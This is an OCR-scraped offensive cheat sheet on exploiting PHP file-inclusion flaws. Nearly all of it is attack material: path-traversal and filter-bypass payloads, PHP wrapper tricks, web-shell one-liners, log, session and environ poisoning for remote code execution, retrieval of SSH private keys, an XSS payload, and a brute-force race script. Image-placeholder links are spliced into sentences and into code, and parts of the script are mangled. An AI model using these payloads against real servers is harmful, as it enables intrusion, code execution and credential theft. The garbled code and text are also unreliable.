Physical attacks
Mobile Apps Pentesting

File Inclusion

File Inclusion

Remote File Inclusion (RFI): The file is loaded from a remote server (Best: You can write the code and the server will execute it). In php this is disabled by default (allow_url_include). Local File Inclusion (LFI): The sever loads a local file.The vulnerability occurs when the user can control in some way the file that is going to be load by theserver.

Vulnerable PHP functions: require, require_once, include, include_once

A interesting tool to exploit this vulnerability:

Blind - Interesting - LFI2RCE files


Mixing several *nix LFI lists and adding more paths I have created this one:

A list that uses several techniques to find the file /etc/password (to check if the vulnerability exists) can be found here


Using theses lists and deleting repetitions I have created a new one:A list that uses several techniques to find the file /boot.ini (to check if the vulnerability exists) can be found here


Check the LFI list of linux.


All the examples are for Local File Inclusion but could be applied to Remote File Inclusion also (page=

Null byte (%00)

Bypass the append more chars at the end of the provided string (bypass of: $_GET['param']."php")

This is solved since PHP 5.4

Double encoding

Path truncation

Bypass the append of more chars at the end of the provided string (bypass of: $_GET['param']."php")

In PHP: /etc/passwd = /etc//passwd = /etc/./passwd = /etc/passwd/ = /etc/passwd/.
Check if last 6 chars are passwd --> passwd/
Check if last 4 chars are ".php" --> shellcode.php/.\.\.\.\.\.\.\.\.\.\.\[ADD MORE]\.\.[ADD MORE]/././.
#With the next options, by trial and error, you have to discover how many "../" are needed to delete the appended string but not "/etc/passwd" (near 2027)[ADD MORE]/etc/passwd[ADD MORE]../../../../../etc/passwd

Always try to start the path with a fake directory (a/).

This vulnerability was corrected in PHP 5.3.

Filter bypass tricks
Maintain the initial path:

LFI / RFI using wrappers

Wrapper php://filter

Base64 and rot13

The part "php://filter" is case insensitive

zlib (compression)Can be chained with a compression wrapper for large files.

To read the comppression data you need to decode the base64 and read the resulting data using:

php -a #Starts a php console

NOTE: Wrappers can be chained

Wrapper zip://

Upload a Zip file with a PHPShell inside and access it.

echo "<pre><?php system($_GET['cmd']); ?></pre>" > payload.php;
zip payload.php;
mvshell.jpg;
rm payload.php

Wrapper data://,<?php echo base64_encode(file_get_contents("index.php")); ?>;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7ZWNobyAnU2hlbGwgZG9uZSAhJzsgPz4=
NOTE: the payload is "<?php system($_GET['cmd']);echo 'Shell done !'; ?>"

Fun fact: you can trigger an XSS and bypass the Chrome Auditor with :;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+

Wrapper expect://Expect has to be activated. You can execute code using this.

Wrapper input://

Specify your payload in the POST parameters
POST DATA: <? system('id'); ?>

Wrapper phar://



Via Logs Files

Try to send the Shell inside a parameter of the request and access it via logs files: default_log_locations


Send a mail to a internal account (user@localhost) containing <?php echo system($_REQUEST["cmd"]); ?> and access to the mail /var/mail/USER&cmd=whoami

Be carefull, the code inside the logs could be URL encoded and this could destroy the Shell. The header authotitation "basic" contains "user:password" in Base64 and it is decoded inside the logs. The PHPShell could be inserted insithe this header.

Via /proc/*/fd/*

  1. Upload a lot of shells (for example : 100)

  2. Include$PID/fd/$FD, with $PID = PID of the process (can be bruteforced) and $FD the filedescriptor (can be bruteforced too)

Via /proc/self/environ

Like a log file, send the payload in the User-Agent, it will be reflected inside the /proc/self/environ file

GET vulnerable.php?filename=../../../proc/self/environ HTTP/1.1
User-Agent: <?=phpinfo(); ?>Via upload

If you can upload a file, just injectthe shell payload in it (e.g : <?php system($_GET['c']); ?> ).

In order to keep the file readable it is best to inject into the metadata of the pictures/doc/pdf

Via PHP sessions

Check if the website use PHP Session (PHPSESSID)

Set-Cookie: PHPSESSID=i56kgbsq9rm8ndg3qbarhsbm27; path=/
Set-Cookie: user=admin; expires=Mon, 13-Aug-2018 20:21:29 GMT; path=/; httponly

In PHP these sessions are stored into /var/lib/php5/sess_[PHPSESSID] files


Set the cookie to <?php system('cat /etc/passwd');?>login=1&user=<?php system("cat /etc/passwd");?>&pass=password&lang=en_us.php

Use the LFI to include the PHP session file


Via ssh

If ssh is active check which user is being used (/proc/self/status & /etc/passwd) and try to access <HOME>/.ssh/id_rsa

Via phpinfo() (file_uploads = on)

To exploit this vulnerability you need: A LFI vulnerability, a page where phpinfo() is displayed, "file_uploads = on" and the server has to be able to write in the "/tmp" directory.

Turotial HTB:

You need to fix the exploit (change => for =>). To do so you can do:

sed -i 's/\[tmp_name\] \=>/\[tmp_name\] =\&gt/g'

You have to change also the payload at the beginning of the exploit (for a php-rev-shell for example), the REQ1 (this should point to the phpinfo page and should have the padding included, i.e.: REQ1="""POST /install.php?mode=phpinfo&a="""+padding+""" HTTP/1.1\r), and LFIREQ (this should point to the LFI vulnerability,i.e.: LFIREQ="""GET /info?page=%s%%00 HTTP/1.1\r -- Check the double "%" when exploiting null char)


If uploads are allowed in PHP and you try to upload a file, this files is stored in a temporal directory until the server has finished processing the request, then this temporary files is deleted.

Then, if have found a LFI vulnerability in the web server you can try to guess the name of the temporary file created and exploit a RCE accessing the temporary file before it is deleted.

In Windows the files are usually stored in C:\Windows\temp\php<<

In linux the name of the file use to be random and located in /tmp. As the name is random, it is needed to extract from somewhere the name of the temporal file and access it before it is deleted. This can be done reading the value of the variable $_FILES inside the content of the function "phpconfig()".


PHP uses a buffer of 4096B and when it is full, it is send to the client. Then the client can send a lot of big requests (using big headers) uploading a php reverse shell, wait for the first part of the phpinfo() to be returned (where the name of the temporary file is) and try to access the temp file before the php server deletes the file exploiting a LFI vulnerability.

Python script to try to bruteforce the name (if length = 6)

import itertools
import requests
import sys
print('[+] Trying to win the race')
f = {'file': open('shell.php', 'rb')}
for _ in range(4096 * 4096):'', f)
print('[+] Bruteforcing the inclusion')
for fname in itertools.combinations(string.ascii_letters + string.digits, 6):
url = '' + fname
r = requests.get(url)
if 'load average' in r.text: # <?php echo system('uptime');
print('[+] We have got a shell: ' + url)
print('[x] Something went wrong, please tryagain')


PayloadsAllTheThingsPayloadsAllTheThings/tree/master/File%20Inclusion%20-%20Path%20Traversal/Intruders